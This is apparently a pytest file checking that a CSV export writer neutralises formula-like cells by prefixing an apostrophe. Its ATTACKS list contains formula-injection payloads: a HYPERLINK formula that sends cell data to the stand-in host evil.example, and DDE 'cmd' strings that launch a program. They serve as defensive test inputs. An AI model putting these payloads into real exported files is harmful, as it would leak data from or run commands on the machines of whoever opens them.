"""CSV cells that a spreadsheet would run as formulas are made plain text."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from common.exports import Column, Table
from common.exports.writers import csv_chunks, csv_text, neutralise

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize(
    "value, written",
    [
        ("Law 27.275", "Law 27.275"),
        ("", ""),
        ("a=b", "a=b"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        (-5, "-5"),
        (Decimal("-2.5"), "-2.5"),
        (-0.5, "-0.5"),
        (None, ""),
        (True, "true"),
        (date(2024, 1, 2), "2024-01-02"),
        ({"a": "=1"}, '{"a": "=1"}'),
    ],
)
def test_other_cells_are_written_as_they_are(value, written):
    assert csv_text(value) == written


def test_a_lazy_or_other_object_is_neutralised_too():
    class Odd:
        def __str__(self):
            return "=1+1"

    assert csv_text(Odd()) == "'=1+1"
    assert neutralise("=x") == "'=x"


def test_the_written_file_holds_no_formula():
    table = Table(
        name="t",
        title="t",
        columns=[Column("text", "Text", "A text.")],
        rows=({"text": text} for text in ATTACKS),
    )
    body = b"".join(csv_chunks(table)).decode()
    cells = [row["text"] for row in csv.DictReader(io.StringIO(body))]
    assert cells == ["'" + text for text in ATTACKS]
